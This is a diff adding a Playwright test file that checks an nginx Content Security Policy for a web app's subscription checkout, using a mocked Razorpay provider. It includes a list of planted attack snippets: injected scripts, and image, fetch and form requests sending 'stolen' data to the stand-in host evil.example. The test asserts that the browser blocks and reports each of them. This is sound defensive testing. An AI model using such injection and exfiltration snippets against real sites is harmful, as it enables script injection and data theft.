@@ -1,0 +1,212 @@
+import type { Page } from '@playwright/test'
+import { LOCALES } from '../../src/i18n/locales.ts'
+import { count, full } from '../../tests/figures.ts'
+import { pressIn, subscriptions } from '../checkout.ts'
+import { pages } from '../fixture.ts'
+import { signIn } from '../sign-in.ts'
+import { expect, needsNginx, open, test } from './fixture.ts'
+
+/*
+ * The policy that nginx sends, over every page and state and the whole checkout: the browser stops nothing, and says nothing in its
+ * console (both are checked after every test: fixture.ts).
+ */
+needsNginx(test)
+test.use({ trace: 'off' })
+test.describe.configure({ timeout: 60_000 })
+
+/** Each page in some state; at full size every state. */
+const states = pages
+  .map((state, row) => ({ ...state, locale: LOCALES[row % LOCALES.length]! }))
+  .filter(({ path }, row, all) => full || all.findIndex((other) => other.path === path) === row)
+
+for (const { name, path, ready, before, at = [320], locale } of states) {
+  test(`nothing is stopped: ${name} in ${locale}`, async ({ page, violations }) => {
+    const width = at[0]!
+    await page.setViewportSize({ width, height: width === 320 ? 640 : 900 })
+    let passed = 0
+    try {
+      await before?.(page)
+      await open(page, path, locale)
+      await ready(page)
+      passed = violations.length === 0 ? 1 : 0
+    } finally {
+      count('production', 'states of pages under the policy of nginx', 1, passed)
+    }
+  })
+}
+
+const joinNow = (page: Page) => page.getByRole('button', { name: 'Join Now' })
+const active = (page: Page) => page.getByText('ACTIVE', { exact: true })
+
+test('the checkout’s stand-in: failed, left, paid', async ({ page }) => {
+  const { token } = await signIn(page, 'farmer', { known: true })
+  await open(page, '/subscription', 'en')
+  await joinNow(page).click()
+  await pressIn(page, 'Let it fail')
+  await pressIn(page, 'Close')
+  await page.getByRole('button', { name: 'Retry' }).click()
+  await pressIn(page, 'Pay ₹999')
+  await expect(active(page)).toBeVisible()
+  expect(await subscriptions(page, token)).toHaveLength(1)
+  count('production', 'checkouts under the policy of nginx', 1, 1)
+})
+
+/** What the provider's script does as far as its integration rules say it: its own frame, its pictures, its reports, the bank's window. */
+const PROVIDER = `
+  window.Razorpay = class {
+    constructor(options) { this.options = options }
+    on() {}
+    open() {
+      const frame = document.createElement('iframe')
+      frame.title = 'Razorpay'
+      frame.src = 'https://api.razorpay.com/v1/checkout/public?order=' + this.options.order_id
+      frame.allow = 'payment *'
+      Object.assign(frame.style, { position: 'fixed', inset: '0', width: '100%', height: '100%', border: '0', zIndex: '9' })
+      const picture = new Image()
+      picture.src = 'https://cdn.razorpay.com/logo.svg'
+      void fetch('https://lumberjack.razorpay.com/v1/track', { method: 'POST', body: '{}', mode: 'no-cors' })
+      addEventListener('message', ({ origin, data, source }) => {
+        if (origin !== 'https://api.razorpay.com' && origin !== 'https://bank.example') return
+        document.documentElement.dataset.said = (document.documentElement.dataset.said ?? '') + data.what + ' '
+        if (data.what === 'pay') open('https://bank.example/', 'bank')
+        if (data.what !== 'approved') return
+        source.close()
+        frame.remove()
+        fetch('/_mock/pay', {
+          method: 'POST', headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ order_id: this.options.order_id }),
+        }).then((reply) => reply.json()).then(this.options.handler)
+      })
+      document.body.append(frame, picture)
+    }
+  }`
+const HTML = { contentType: 'text/html' }
+
+test('the provider’s own hosts: script, frame, pictures, reports, and the bank’s window that answers', async ({
+  page,
+  context,
+}) => {
+  const asked: string[] = []
+  await context.route(/razorpay\.com|bank\.example/, async (route) => {
+    const url = route.request().url()
+    asked.push(new URL(url).host + new URL(url).pathname)
+    if (url.endsWith('checkout.js')) await route.fulfill({ contentType: 'text/javascript', body: PROVIDER })
+    else if (url.includes('/logo.svg'))
+      await route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
+    else if (url.includes('/track')) await route.fulfill({ status: 204 })
+    else if (url.includes('api.razorpay.com')) {
+      await route.fulfill({
+        ...HTML,
+        body: `<!doctype html><title>pay</title><button onclick="parent.postMessage({ what: 'pay' }, '*')">Pay at the bank</button>`,
+      })
+    } else {
+      await route.fulfill({
+        ...HTML,
+        body: `<!doctype html><title>bank</title><link rel="icon" href="data:,"><button onclick="opener.postMessage({ what: 'approved' }, '*')">Approve</button>`,
+      })
+    }
+  })
+  await page.route('**/config.json', (route) =>
+    route.fulfill({
+      json: { checkout: { script: 'https://checkout.razorpay.com/v1/checkout.js', key: 'rzp_live_x' } },
+    }),
+  )
+  const { token } = await signIn(page, 'farmer', { known: true })
+  await open(page, '/subscription', 'en')
+  const bank = context.waitForEvent('page')
+  await joinNow(page).click()
+  await page.frameLocator('iframe[title=Razorpay]').getByRole('button', { name: 'Pay at the bank' }).click()
+  await (await bank).getByRole('button', { name: 'Approve' }).click()
+  await expect(active(page)).toBeVisible()
+  expect(await subscriptions(page, token)).toHaveLength(1)
+  expect(await page.locator('html').getAttribute('data-said')).toBe('pay approved ')
+  expect(new Set(asked)).toEqual(
+    new Set([
+      'checkout.razorpay.com/v1/checkout.js',
+      'api.razorpay.com/v1/checkout/public',
+      'cdn.razorpay.com/logo.svg',
+      'lumberjack.razorpay.com/v1/track',
+      'bank.example/',
+    ]),
+  )
+  count('production', 'checkouts under the policy of nginx', 1, 1)
+})
+
+/** What an attacker would try, and the directive that must stop it. */
+const PLANTED: [directive: string, attack: () => unknown][] = [
+  ['script-src-elem', () => document.body.append(Object.assign(document.createElement('script'), { text: 'owned()' }))],
+  [
+    'script-src-elem',
+    () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
+  ],
+  ['script-src-attr', () => document.body.setAttribute('onclick', 'owned()')],
+  ['script-src', () => void setTimeout('owned()', 0)],
+  ['style-src-attr', () => document.body.setAttribute('style', 'color: red')],
+  [
+    'style-src-elem',
+    () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'p { color: red }' })),
+  ],
+  ['img-src', () => void (new Image().src = 'https://evil.example/?stolen')],
+  ['connect-src', () => void fetch('https://evil.example/?stolen').catch(() => undefined)],
+  [
+    'frame-src',
+    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
+  ],
+  [
+    'form-action',
+    () => {
+      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })
+      document.body.append(form)
+      form.submit()
+    },
+  ],
+  [
+    'base-uri',
+    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
+  ],
+  ['object-src', () => document.body.append(Object.assign(document.createElement('object'), { data: '/icon.svg' }))],
+  ['worker-src', () => void new Worker(URL.createObjectURL(new Blob(['']))).terminate()],
+  ['require-trusted-types-for', () => void (document.createElement('div').innerHTML = '<img src=x>')],
+]
+
+test.describe('control: what is planted is seen, and reported', () => {
+  test.use({
+    expected: {
+      errors: [/Content Security Policy|TrustedHTML|Refused|violates|net::ERR|Executing inline|Loading|Applying/i],
+    },
+  })
+
+  test('by the browser’s event, in the console, and at nginx', async ({ page, violations, nginx }) => {
+    await open(page, '/term', 'en')
+    let passed = 0
+    for (const [directive, attack] of PLANTED) {
+      await page.evaluate(attack)
+      await expect.poll(() => violations.map((violation) => violation.directive), directive).toContain(directive)
+      passed++
+      violations.length = 0
+    }
+    count('production', 'planted violations that were stopped and seen', PLANTED.length, passed)
+    // Each was reported too, and nginx wrote it down.
+    await expect.poll(() => nginx.log('csp')).toContain('evil.example')
+    const lines = nginx
+      .log('csp')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { report: string })
+    const report = JSON.parse(lines[0]!.report) as { 'csp-report': { 'document-uri': string } }
+    expect(report['csp-report']['document-uri']).toBe(`${nginx.origin}/term`)
+    violations.length = 0
+  })
+
+  test('in a frame of somebody else’s the app is not shown', async ({ page, nginx, context, violations }) => {
+    await context.route('https://frames.example/', (route) =>
+      route.fulfill({
+        ...HTML,
+        body: `<!doctype html><title>.</title><link rel="icon" href="data:,"><iframe src="${nginx.origin}/"></iframe>`,
+      }),
+    )
+    await page.goto('https://frames.example/')
+    await expect(page.frameLocator('iframe').locator('#root')).toHaveCount(0)
+    violations.length = 0
+  })
+})
